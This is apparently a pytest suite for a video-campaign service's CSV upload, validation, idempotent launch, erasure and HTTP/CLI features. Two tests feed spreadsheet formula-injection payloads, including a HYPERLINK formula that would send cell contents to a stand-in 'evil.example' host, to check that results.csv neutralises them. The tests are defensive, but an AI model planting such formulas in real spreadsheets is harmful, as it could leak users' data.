"""CSV campaigns: reading what Excel writes in Japan, checking every row, launching each good row
once (also after a crash), answering the same upload with the same campaign, and erasure.

The service's functions run in this process on the small template (inputs `name`, `amount`);
`test_campaign_over_http_and_the_command` runs a real server and the `vidmerge campaign` command.
The Celery + Redis run with a worker restarted mid-way is in test_distributed.py.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from support.media import make_clip, write_bundle, zip_folder
from support.server import Api

from vidmerge.errors import InvalidInput, NotFound
from vidmerge.records import Claim, RenderRecord
from vidmerge.service import campaigns, csvfile, renders
from vidmerge.service.runtime import Runtime
from vidmerge.service.work import tasks
from vidmerge.service.work.queue import EmbeddedQueue

MAPPING = {"顧客ID": "external_id", "氏名": "name", "金額": "amount"}


def sheet(rows: list[list[str]], header: tuple[str, ...] = ("顧客ID", "氏名", "金額"), memo: str = "") -> str:
    """A CSV as Excel writes it; `memo` fills an ignored column, so that tests sharing the module's
    runtime do not upload the same file (which would be the same campaign)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([*header, "備考"] if memo else header)
    writer.writerows([*row, memo] if memo else row for row in rows)
    return out.getvalue()


GOOD = [["c-1", "髙橋 一郎", "12,340"], ["c-2", "斎藤 花子", "１２０"], ["c-3", "", "5000"]]
BAD = [["c-4", "田中", "たくさん"], ["", "名無し", "1"], ["c-1", "重複", "2"]]


@pytest.fixture
def rt(small_runtime: Runtime) -> Runtime:
    return small_runtime


def launched(rt: Runtime, campaign_id: str) -> list[str]:
    made: list[str] = []
    campaigns.launch(rt, campaign_id, lambda render_id, priority: made.append(f"{render_id}:{priority}"))
    return made


# -- reading --------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp932"])
def test_each_encoding_excel_writes_is_found_and_read(encoding: str) -> None:
    text = sheet(GOOD)
    found = csvfile.read(text.encode(encoding), max_rows=10)
    assert found.encoding == encoding
    assert found.header == ["顧客ID", "氏名", "金額"]
    assert found.rows == [(2, GOOD[0]), (3, GOOD[1]), (4, GOOD[2])]


def test_results_are_written_back_in_the_upload_encoding() -> None:
    rows = [["顧客ID", "氏名"], ["c-1", "髙橋"], *[[f"c-{n}", "﨑"] for n in range(600)]]
    for encoding in csvfile.ENCODINGS:
        written = b"".join(csvfile.write(rows, encoding))
        assert written.startswith(codecs.BOM_UTF8) == (encoding == "utf-8-sig")
        again = csvfile.read(written, max_rows=1000)
        assert (again.encoding, again.rows[0][1], len(again.rows)) == (encoding, ["c-1", "髙橋"], 601)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("顧客ID\r\nc-1\r\n".encode("utf-16"), "UTF-16"),
        (b"\x81\x7f\r\nx\r\n", "the header's byte 0 is not cp932: neither UTF-8 nor Shift_JIS"),  # a row: a row problem
        (b"", "no header row"),
        (b"a,b,a\r\n1,2,3\r\n", "column 'a' appears twice (columns 1 and 3)"),
        (b'a,b\r\n1,"2\r\n', "line 2: unexpected end of data"),  # an unclosed quote
        ("a\r\n" + "x\r\n" * 6, "more than 5 rows"),
    ],
)
def test_a_file_that_is_not_a_readable_sheet_is_refused_naming_why(content: bytes | str, reason: str) -> None:
    raw = content.encode() if isinstance(content, str) else content
    with pytest.raises(InvalidInput) as caught:
        csvfile.read(raw, max_rows=5)
    assert caught.value.where == "file" and reason in caught.value.message


def test_blank_lines_are_skipped_and_rows_keep_their_spreadsheet_numbers() -> None:
    found = csvfile.read(b"id,name\r\n\r\na,b\r\n,\r\nc,d\r\n\r\n", max_rows=2)
    assert found.rows == [(3, ["a", "b"]), (5, ["c", "d"])]


@pytest.mark.parametrize(("given", "name"), [("Shift_JIS", "cp932"), ("UTF8", "utf-8"), ("cp932", "cp932")])
def test_encoding_names_callers_write(given: str, name: str) -> None:
    assert csvfile.encoding_name(given) == name
    with pytest.raises(InvalidInput, match="not one of"):
        csvfile.encoding_name("latin-1")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-1234", "@SUM(A1)", "\tx", "\r=1"]


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() -> None:
    """OWASP's CSV injection advice: such a cell gets a leading ' and every text cell is quoted;
    vidmerge's own figures, passed as numbers, are written as numbers (a negative one too)."""
    written = b"".join(csvfile.write([[*FORMULAS, "plain", -5, 0.25, None]], "utf-8")).decode()
    assert written == ('"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")","\'+1+2","\'-1234","\'@SUM(A1)",'
                       '"\'\tx","\'\r=1","plain",-5,0.25,""\r\n')  # fmt: skip
    (row,) = csv.reader(io.StringIO(written, newline=""))
    assert row[:6] == ["'" + f for f in FORMULAS]


# -- checking rows --------------------------------------------------------------------------------


def test_every_bad_row_is_named_with_its_column_and_the_good_ones_counted(rt: Runtime) -> None:
    content = sheet(GOOD + BAD).encode("cp932")
    done = campaigns.upload(rt, "small", content, mapping=MAPPING)
    assert (done.created, done.rows, done.valid, done.invalid) == (True, 6, 3, 3)
    assert done.campaign.encoding == "cp932"
    errors = {(e["row"], e["column"]): e["reason"] for e in done.errors}
    assert set(errors) == {(5, "金額"), (6, "顧客ID"), (7, "顧客ID")}
    assert "number" in errors[(5, "金額")]
    assert errors[(6, "顧客ID")] == "missing" and errors[(7, "顧客ID")] == "repeats row 2"
    # the campaign counts the rows its results list: a repeated external_id is listed once, by its first row
    assert campaigns.progress(rt, done.campaign) == {
        "campaign_id": done.campaign.id, "template_id": "small", "template_version": 1, "status": "created",
        "total": 3, "done": 0, "failed": 0, "erased": 0, "invalid": 2, "eta_seconds": None, "encoding": "cp932",
        "uploads": 1,
    }  # fmt: skip


def test_columns_named_like_inputs_need_no_mapping_and_others_are_listed_as_ignored(rt: Runtime) -> None:
    content = sheet([["x-1", "佐藤", "10", "東京"]], header=("external_id", "name", "amount", "住所")).encode()
    done = campaigns.upload(rt, "small", content)
    assert (done.valid, done.ignored_columns) == (1, ["住所"])
    row, _ = rt.db.campaigns.rows(done.campaign.id)[0]
    assert {d["slot_id"]: d["text"] for d in row.resolved["drawn"]}["greeting"] == "佐藤様"
    assert "佐藤" not in json.dumps(row.problems) and "東京" not in json.dumps(row.resolved, ensure_ascii=False)


@pytest.mark.parametrize(
    ("mapping", "where"),
    [({"氏名": "nickname"}, "mapping.氏名"), ({"電話": "name"}, "mapping.電話")],
)
def test_a_mapping_to_no_input_or_from_no_column_is_refused(rt: Runtime, mapping: dict[str, str], where: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        campaigns.upload(rt, "small", sheet(GOOD).encode(), mapping={**MAPPING, **mapping})
    assert caught.value.where == where


def test_two_columns_filling_one_input_are_refused_naming_both(rt: Runtime) -> None:
    content = sheet([["c-1", "佐藤", "1", "さとう"]], header=("顧客ID", "氏名", "金額", "name")).encode()
    with pytest.raises(InvalidInput, match="columns '氏名' and 'name' both fill 'name'") as caught:
        campaigns.upload(rt, "small", content, mapping=MAPPING)
    assert caught.value.where == "mapping"


def test_a_file_without_an_external_id_column_or_template_is_refused(rt: Runtime) -> None:
    with pytest.raises(InvalidInput, match="external_id") as caught:
        campaigns.upload(rt, "small", sheet(GOOD, header=("id", "name", "amount")).encode())
    assert caught.value.where == "file"
    with pytest.raises(NotFound) as missing:  # 404, naming the field
        campaigns.upload(rt, "no-such-template", sheet(GOOD).encode(), mapping=MAPPING)
    assert missing.value.where == "template_id"


def test_an_oversized_cell_is_a_row_problem_not_work(rt: Runtime) -> None:
    content = sheet([["c-1", "長" * (campaigns.MAX_CELL + 1), "1"], ["c-2", "短", "1"]]).encode()
    done = campaigns.upload(rt, "small", content, mapping=MAPPING)
    assert (done.valid, done.errors) == (1, [{"row": 2, "column": "氏名", "reason": "longer than 10000 characters"}])


# -- launching ------------------------------------------------------------------------------------


def test_each_good_row_is_launched_once_on_the_bulk_lane(rt: Runtime) -> None:
    done = campaigns.upload(rt, "small", sheet(GOOD + BAD, memo="once").encode(), mapping=MAPPING)
    assert launched(rt, done.campaign.id) == []  # not started: nothing renders
    campaigns.start(rt, done.campaign.id)
    made = launched(rt, done.campaign.id)
    assert len(made) == 3 and all(m.endswith(":bulk") for m in made)
    assert launched(rt, done.campaign.id) == []  # launching again makes nothing
    records = rt.db.renders.of_campaign(done.campaign.id)
    assert sorted(r.external_id or "" for r in records) == ["c-1", "c-2", "c-3"]
    assert {r.priority for r in records} == {"bulk"}
    by_id = {r.external_id: renders.values(r) for r in records}
    assert by_id == {  # full-width digits and separators read as numbers; a blank name draws the default
        "c-1": {"greeting": "髙橋 一郎様", "amount": "12,340円"},
        "c-2": {"greeting": "斎藤 花子様", "amount": "120円"},
        "c-3": {"greeting": "お客様", "amount": "5,000円"},
    }
    assert all(row.resolved == {} for row, _ in rt.db.campaigns.rows(done.campaign.id))  # only the render keeps them


def test_a_launch_cut_off_between_accepting_and_linking_is_resumed_without_a_second_render(rt: Runtime) -> None:
    done = campaigns.upload(rt, "small", sheet(GOOD, memo="crash").encode(), mapping=MAPPING)
    campaigns.start(rt, done.campaign.id)
    first, _ = rt.db.campaigns.rows(done.campaign.id)[0]
    render = RenderRecord(template_id="small", template_version=1, external_id="c-1", priority="bulk",
                          campaign_id=done.campaign.id)  # fmt: skip
    claim = Claim(campaigns.CLAIM_SCOPE, f"{done.campaign.id}:{first.seq}", first.values_hash or "")
    crashed = renders.accept_frozen(rt.db, rt.registry, render, first.resolved, [claim]).record  # then the process died
    made = launched(rt, done.campaign.id)
    assert len(made) == 2  # the two other rows; the first found its render by the claim
    rows = rt.db.campaigns.rows(done.campaign.id)
    assert rows[0][0].render_id == crashed.id
    assert len(rt.db.renders.of_campaign(done.campaign.id)) == 3


def test_a_render_made_before_a_crash_and_erased_since_is_not_made_again(rt: Runtime) -> None:
    done = campaigns.upload(rt, "small", sheet([["gone-1", "消去済み", "1"]]).encode(), mapping=MAPPING)
    campaigns.start(rt, done.campaign.id)
    row, _ = rt.db.campaigns.rows(done.campaign.id)[0]
    render = RenderRecord(template_id="small", template_version=1, external_id="gone-1", priority="bulk",
                          campaign_id=done.campaign.id)  # fmt: skip
    claim = Claim(campaigns.CLAIM_SCOPE, f"{done.campaign.id}:{row.seq}", row.values_hash or "")
    renders.accept_frozen(rt.db, rt.registry, render, row.resolved, [claim])  # then the process died
    renders.erase_external(rt.db, rt.registry, "gone-1")  # and the customer asked to be forgotten
    assert launched(rt, done.campaign.id) == []
    assert rt.db.renders.of_campaign(done.campaign.id) == []
    assert [r.status for r in campaigns.results(rt, campaigns.get(rt, done.campaign.id))] == ["erased"]


def test_a_stopped_launch_is_found_by_the_sweep_once_stale(rt: Runtime) -> None:
    done = campaigns.upload(rt, "small", sheet([["s-1", "佐藤", "1"]]).encode(), mapping=MAPPING)
    campaigns.start(rt, done.campaign.id)
    stale_rt = Runtime.__new__(Runtime)
    stale_rt.__dict__.update(rt.__dict__, settings=rt.settings.with_(requeue_after_seconds=-1))
    assert done.campaign.id in campaigns.stale(stale_rt)
    assert done.campaign.id not in campaigns.stale(rt)  # touched by the sweep that found it
    launched(rt, done.campaign.id)
    assert done.campaign.id not in campaigns.stale(stale_rt)  # nothing left to launch


def test_a_render_waiting_in_the_embedded_queue_is_not_queued_twice_by_the_sweep(
    rt: Runtime, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A campaign's bulk renders wait long for their turn; the sweep takes them for lost once
    they are untouched for a while, and must not pile copies into the queue."""
    ran: list[str] = []
    release = threading.Event()

    def run_render(_rt: Runtime, render_id: str) -> str:
        ran.append(render_id)
        release.wait(30)
        return "done"

    monkeypatch.setattr(tasks, "run_render", run_render)
    queue = EmbeddedQueue(rt, workers=1)
    queue.start()
    try:
        queue.enqueue("busy", "bulk")
        deadline = time.monotonic() + 10
        while not ran and time.monotonic() < deadline:
            time.sleep(0.01)
        for _ in range(3):  # the sweep, three rounds while "waiting" waits its turn
            queue.enqueue("waiting", "bulk")
        queue.enqueue("busy", "bulk")  # running, no longer in the queue: may be queued again
        release.set()
        while len(ran) < 3 and time.monotonic() < deadline:
            time.sleep(0.01)
        time.sleep(0.2)
    finally:
        queue.stop()
    assert ran == ["busy", "waiting", "busy"]


# -- uploading again ------------------------------------------------------------------------------


def test_the_same_file_again_is_the_same_campaign_and_renders_nothing_new(rt: Runtime) -> None:
    content = sheet(GOOD + BAD, memo="again").encode("cp932")
    first = campaigns.upload(rt, "small", content, mapping=MAPPING)
    campaigns.start(rt, first.campaign.id)
    launched(rt, first.campaign.id)
    again = campaigns.upload(rt, "small", content, mapping=MAPPING)
    assert (again.created, again.campaign.id, again.valid, again.invalid) == (False, first.campaign.id, 3, 3)
    assert launched(rt, first.campaign.id) == []
    assert len(rt.db.renders.of_campaign(first.campaign.id)) == 3


def test_corrected_rows_are_added_and_only_changed_or_failed_rows_render_again(rt: Runtime) -> None:
    first = campaigns.upload(rt, "small", sheet(GOOD + BAD, memo="corrected").encode(), mapping=MAPPING)
    campaign_id = first.campaign.id
    campaigns.start(rt, campaign_id)
    launched(rt, campaign_id)
    c2 = next(r for r in rt.db.renders.of_campaign(campaign_id) if r.external_id == "c-2")
    renders.set_status(rt.db, c2.id, "failed", error="FFmpegError at segment 2")
    corrections = [GOOD[0], GOOD[1], ["c-3", "", "6000"], ["c-4", "田中", "300"], ["c-5", "", "x"]]
    added = campaigns.upload(rt, "small", sheet(corrections).encode(), mapping=MAPPING, campaign_id=campaign_id)
    assert (added.rows, added.valid, added.invalid, added.unchanged) == (5, 4, 1, 1)  # c-1 is as it was
    made = launched(rt, campaign_id)
    assert len(made) == 3  # c-2 (had failed), c-3 (changed), c-4 (was invalid)
    results = {r.external_id: r for r in campaigns.results(rt, first.campaign)}
    assert set(results) == {"c-1", "c-2", "c-3", "c-4", "c-5", ""}
    assert results["c-2"].render is not None and results["c-2"].render.id != c2.id
    assert results["c-5"].status == "invalid" and "amount" not in results["c-5"].error  # named by its column
    assert results["c-5"].error.startswith("金額: ")
    assert campaigns.progress(rt, campaigns.get(rt, campaign_id))["uploads"] == 2
    with pytest.raises(InvalidInput) as caught:
        campaigns.upload(rt, "other", sheet(GOOD).encode(), mapping=MAPPING, campaign_id=campaign_id)
    assert caught.value.where == "template_id"


# -- erasure --------------------------------------------------------------------------------------


def test_erasure_by_campaign_removes_its_renders_and_rows_and_keeps_an_audit_entry(rt: Runtime) -> None:
    done = campaigns.upload(rt, "small", sheet([["e-1", "消去", "1"], ["e-2", "消去", "2"]]).encode(), mapping=MAPPING)
    campaigns.start(rt, done.campaign.id)
    launched(rt, done.campaign.id)
    made = rt.db.renders.of_campaign(done.campaign.id)
    assert campaigns.erase(rt, done.campaign) == 2
    assert all(rt.db.renders.get(r.id) is None for r in made)
    assert rt.db.campaigns.rows(done.campaign.id) == [] and rt.db.campaigns.get(done.campaign.id) is None
    with pytest.raises(NotFound):
        campaigns.get(rt, done.campaign.id)


def test_a_launch_that_finds_its_campaign_erased_erases_what_it_made(rt: Runtime) -> None:
    done = campaigns.upload(rt, "small", sheet([["r-1", "競合", "1"]]).encode(), mapping=MAPPING)
    campaigns.start(rt, done.campaign.id)
    row, _ = rt.db.campaigns.rows(done.campaign.id)[0]
    rt.db.campaigns.delete(done.campaign.id)  # erased between listing the row and making its render
    campaign = done.campaign
    assert campaigns._launch_row(rt, campaign, row, lambda *_: None) is False
    assert rt.db.renders.of_campaign(done.campaign.id) == []


def _on_disk(rt: Runtime, value: str) -> list[str]:
    """Files of the data dir (SQLite's file and WAL included) holding `value`."""
    root = rt.settings.data_dir
    return [str(p.relative_to(root)) for p in root.rglob("*") if p.is_file() and value.encode() in p.read_bytes()]


def test_an_erased_customer_leaves_no_identifier_in_the_campaign_or_its_results(rt: Runtime) -> None:
    """By external id (a row launched, a row not launched yet, a row replaced) and by render id:
    each row stays an anonymous `erased` count; results.csv and the database keep no identifier."""
    rows = [["ext-camp-7702", "消去 太郎", "1"], ["ext-camp-by-id", "消去 次郎", "2"], ["ext-camp-keep", "残る", "3"]]
    done = campaigns.upload(rt, "small", sheet(rows).encode(), mapping=MAPPING)
    campaign_id = done.campaign.id
    campaigns.start(rt, campaign_id)
    launched(rt, campaign_id)
    changed = [["ext-camp-7702", "消去 太郎", "9"], ["ext-camp-later", "後で 三郎", "4"]]
    campaigns.upload(rt, "small", sheet(changed).encode(), mapping=MAPPING, campaign_id=campaign_id)  # not launched
    by_id = next(r for r in rt.db.renders.of_campaign(campaign_id) if r.external_id == "ext-camp-by-id")
    erased = [renders.erase_external(rt.db, rt.registry, "ext-camp-7702"),
              renders.erase_external(rt.db, rt.registry, "ext-camp-later"),  # never launched: nor will it be
              renders.erase(rt.db, rt.registry, by_id)]  # fmt: skip
    assert launched(rt, campaign_id) == []
    results = [(r.external_id, r.status) for r in campaigns.results(rt, campaigns.get(rt, campaign_id))]
    assert sorted(results) == [("", "erased"), ("", "erased"), ("", "erased"), ("ext-camp-keep", "queued")]
    progress = campaigns.progress(rt, campaigns.get(rt, campaign_id))
    assert (progress["total"], progress["erased"], progress["invalid"]) == (4, 3, 0)
    for gone in ("ext-camp-7702", "ext-camp-by-id", "ext-camp-later", "後で 三郎", "消去 次郎"):
        assert _on_disk(rt, gone) == [], gone
    assert erased[:2] == [(1, 2), (0, 1)]  # (renders, rows): the old row and its replacement, then one row


# -- over HTTP, and the command -------------------------------------------------------------------


@pytest.fixture(scope="module")
def small_api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    tmp = tmp_path_factory.mktemp("campaign-api")
    bundle = write_bundle(tmp / "bundle", clip=make_clip(tmp / "clip.mp4"))
    api = Api(tmp, {"VIDMERGE_MAX_CAMPAIGN_BYTES": "4096"})
    api.start()
    api.post_template(zip_folder(bundle, tmp / "small.zip"))
    yield api
    api.stop()


def test_campaign_over_http_and_the_command(small_api: Api, tmp_path: Path) -> None:
    source = tmp_path / "customers.csv"
    source.write_bytes(sheet([*GOOD, BAD[0]]).encode("cp932"))
    out = tmp_path / "results.csv"
    command = [sys.executable, "-m", "vidmerge", "campaign", "small", str(source), "--out", str(out),
               "--server", small_api.url, "--mapping", json.dumps(MAPPING, ensure_ascii=False)]  # fmt: skip
    ran = subprocess.run(command, capture_output=True, text=True, timeout=300)
    assert ran.returncode == 1, ran.stderr  # one row was invalid: said, and the others rendered
    assert "row 5, 金額" in ran.stderr
    lines = list(csv.DictReader(io.StringIO(out.read_bytes().decode("cp932"))))
    assert [(r["external_id"], r["status"]) for r in lines] == [
        ("c-1", "done"), ("c-2", "done"), ("c-3", "done"), ("c-4", "invalid")]  # fmt: skip
    for line in lines[:3]:
        mp4 = httpx.get(line["mp4_url"], timeout=30)
        assert (mp4.status_code, mp4.headers["content-type"]) == (200, "video/mp4")
        assert f'href="{line["page_url"]}"' in line["email_html"]
    again = subprocess.run(command, capture_output=True, text=True, timeout=300)  # the same file: nothing new
    assert again.returncode == 1 and "3 done, 0 failed, 1 invalid" in again.stderr
    assert [r["page_url"] for r in csv.DictReader(io.StringIO(out.read_bytes().decode("cp932")))] == [
        r["page_url"] for r in lines]  # fmt: skip


def test_campaign_http_answers(small_api: Api) -> None:
    client = small_api.client
    files = {"file": ("c.csv", sheet([["h-1", "山田", "1"], ["h-2", "", "x"]]).encode("utf-8-sig"), "text/csv")}
    form = {"template_id": "small", "mapping": json.dumps(MAPPING)}
    created = client.post("/v1/campaigns", data=form, files=files)
    assert created.status_code == 201, created.text
    body = created.json()
    assert (body["rows"], body["valid"], body["invalid"], body["encoding"]) == (2, 1, 1, "utf-8-sig")
    assert body["errors"] == [{"row": 3, "column": "金額", "reason": body["errors"][0]["reason"]}]
    assert client.post("/v1/campaigns", data=form, files=files).status_code == 200
    campaign = f"/v1/campaigns/{body['campaign_id']}"
    assert client.get(campaign).json()["status"] == "created"
    assert client.post(f"{campaign}/start").status_code == 202
    deadline = time.monotonic() + 120
    while (state := client.get(campaign).json())["status"] != "done" and time.monotonic() < deadline:
        time.sleep(0.3)
    assert (state["status"], state["total"], state["done"], state["invalid"]) == ("done", 1, 1, 1)
    results = client.get(f"{campaign}/results.csv", params={"status": "invalid", "encoding": "cp932"})
    assert results.headers["content-type"] == "text/csv; charset=cp932"
    assert results.content.decode("cp932").splitlines()[1].startswith('3,"h-2","","","","","","invalid","金額: ')
    bad = client.post("/v1/campaigns", data={**form, "mapping": "[1]"}, files=files)
    assert bad.status_code == 422 and bad.json()["problems"][0]["where"] == "mapping"
    assert client.delete(campaign).json() == {"erased": 1}
    assert client.get(campaign).status_code == 404


def test_results_csv_escapes_cells_a_spreadsheet_would_run_as_formulas(small_api: Api) -> None:
    """An upload whose ids (and a column named in a row's error) start with = + - @ tab or CR:
    each comes back in results.csv as text, a ' first (the reader strips the ids' blanks)."""
    ids = ['=HYPERLINK("http://evil.example/","x")', "+1+2", "-1234", "@SUM(A1)", "\t=A1", "\r+A1"]
    rows = [[external_id, "数式", "1"] for external_id in ids] + [["ok-1", "数式", "many"]]
    header = ("顧客ID", "氏名", "@金額")
    mapping = {"顧客ID": "external_id", "氏名": "name", "@金額": "amount"}
    files = {"file": ("f.csv", sheet(rows, header=header).encode(), "text/csv")}
    created = small_api.client.post("/v1/campaigns", data={"template_id": "small", "mapping": json.dumps(mapping)},
                                    files=files)  # fmt: skip
    assert created.status_code == 201, created.text
    answer = small_api.client.get(f"/v1/campaigns/{created.json()['campaign_id']}/results.csv")
    lines = list(csv.reader(io.StringIO(answer.content.decode("utf-8"), newline="")))[1:]
    assert [line[1] for line in lines] == ["'" + i.strip() for i in ids] + ["ok-1"]
    assert lines[-1][8].startswith("'@金額: ")  # the error names the column the marketer wrote
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for cell in line)


def test_a_campaign_file_past_its_bounds_is_refused_naming_it(small_api: Api) -> None:
    client = small_api.client
    form = {"template_id": "small", "mapping": json.dumps(MAPPING)}
    big = sheet([[f"b-{n}", "大きい", "1"] for n in range(400)]).encode()  # > 4096 bytes
    refused = client.post("/v1/campaigns", data=form, files={"file": ("big.csv", big, "text/csv")})
    assert refused.status_code == 413 and refused.json()["problems"][0]["where"] == "file", refused.text
    wide = (",".join(f"c{n}" for n in range(csvfile.MAX_COLUMNS + 1)) + "\r\n").encode()
    refused = client.post("/v1/campaigns", data={"template_id": "small"}, files={"file": ("w.csv", wide, "text/csv")})
    assert refused.status_code == 422 and refused.json()["problems"][0] == {
        "where": "file", "reason": f"{csvfile.MAX_COLUMNS + 1} columns; at most {csvfile.MAX_COLUMNS}"}  # fmt: skip
    deep = client.post("/v1/campaigns", data={**form, "mapping": "[" * 100 + "]" * 100},
                       files={"file": ("c.csv", sheet(GOOD).encode(), "text/csv")})  # fmt: skip
    assert deep.status_code == 422 and deep.json()["problems"][0]["where"] == "mapping"


def test_results_a_japanese_tool_imports_number_rows_and_say_why_in_japanese(small_api: Api) -> None:
    """A CP932 upload's results: each row's number and key (a bad row's too), the reason in
    Japanese after the column as written; asked for in UTF-8, in English."""
    rows = [["j-1", "山田", "1"], ["j-2", "佐藤", "たくさん"], ["", "名無し", "1"]]
    files = {"file": ("j.csv", sheet(rows, memo="ja").encode("cp932"), "text/csv")}
    created = small_api.client.post("/v1/campaigns", data={"template_id": "small", "mapping": json.dumps(MAPPING)},
                                    files=files)  # fmt: skip
    results = f"/v1/campaigns/{created.json()['campaign_id']}/results.csv"
    japanese = list(csv.reader(io.StringIO(small_api.client.get(results).content.decode("cp932"), newline="")))
    assert japanese[0][:2] == ["row", "external_id"]
    assert [(r[0], r[1], r[7], r[8]) for r in japanese[1:]] == [
        ("2", "j-1", "waiting", ""), ("3", "j-2", "invalid", "金額: 数値ではありません（3 行目）"),
        ("4", "", "invalid", "顧客ID: 入力がありません（4 行目）")]  # fmt: skip
    english = small_api.client.get(results, params={"encoding": "utf-8"}).content.decode()
    assert list(csv.reader(io.StringIO(english, newline="")))[2][8] == "金額: must be a number"
    console = f"/console/campaigns/{created.json()['campaign_id']}"  # in the console's language
    assert "金額: 数値ではありません（3 行目）" in small_api.client.get(console).text
    small_api.client.cookies.set("vidmerge_lang", "en")
    try:
        assert "金額: must be a number" in small_api.client.get(console).text
        assert "金額: must be a number" in small_api.client.get(f"{console}/results.csv").content.decode("cp932")
    finally:
        small_api.client.cookies.delete("vidmerge_lang")


def test_a_campaign_for_an_unknown_template_is_404_naming_template_id(small_api: Api) -> None:
    files = {"file": ("c.csv", sheet(GOOD).encode(), "text/csv")}
    answer = small_api.client.post("/v1/campaigns", data={"template_id": "nope", "mapping": json.dumps(MAPPING)},
                                   files=files)  # fmt: skip
    assert answer.status_code == 404 and answer.json()["problems"][0]["where"] == "template_id", answer.text
